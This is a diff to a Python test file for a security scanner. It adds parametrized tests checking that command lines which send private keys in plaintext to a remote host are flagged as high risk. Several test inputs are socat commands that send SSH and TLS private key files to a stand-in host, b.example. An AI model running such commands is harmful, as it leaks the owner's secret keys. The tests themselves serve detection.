@@ -187,3 +187,34 @@ def test_one_certificate_is_no_authority() -> None:
     authority = replace(leaf, is_authority=True)
     assert verdict_of(LISTENER, certificate_file(leaf, "ca.pem"))["self-signed-peer"] == "low"
     assert "self-signed-peer" not in verdict_of(LISTENER, certificate_file(authority, "ca.pem"))
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "socat -u FILE:server.key TCP:b.example:1",
+        "socat -u OPEN:/root/.ssh/id_ed25519 UDP:b.example:1",
+        "socat -u TCP:b.example:1 CREATE:/etc/ssl/web-key.pem",
+        "catflap run GOPEN:private.pem TCP:10.0.0.1:1",
+    ],
+)
+def test_a_private_key_that_passes_in_plaintext_is_given_away(line):
+    verdict = verdict_of(line, Facts())
+    assert verdict["private-key-exposed"] == "high"
+    assert "plaintext-to-remote" not in verdict
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "socat -u FILE:server.pem TCP:b.example:1",
+        "socat -u FILE:/root/.ssh/id_rsa.pub TCP:b.example:1",
+        "socat -u FILE:public-key.pem TCP:b.example:1",
+        "socat -u FILE:server.key OPENSSL:b.example:1,cafile=ca.pem",
+        "socat -u FILE:server.key TCP:127.0.0.1:1",
+        "socat -u FILE:keynote.txt TCP:b.example:1",
+        "socat -u FILE:server.key UNIX:/run/vault.sock",
+    ],
+)
+def test_other_files_and_other_ways_give_no_key_away(line):
+    assert "private-key-exposed" not in verdict_of(line, Facts())
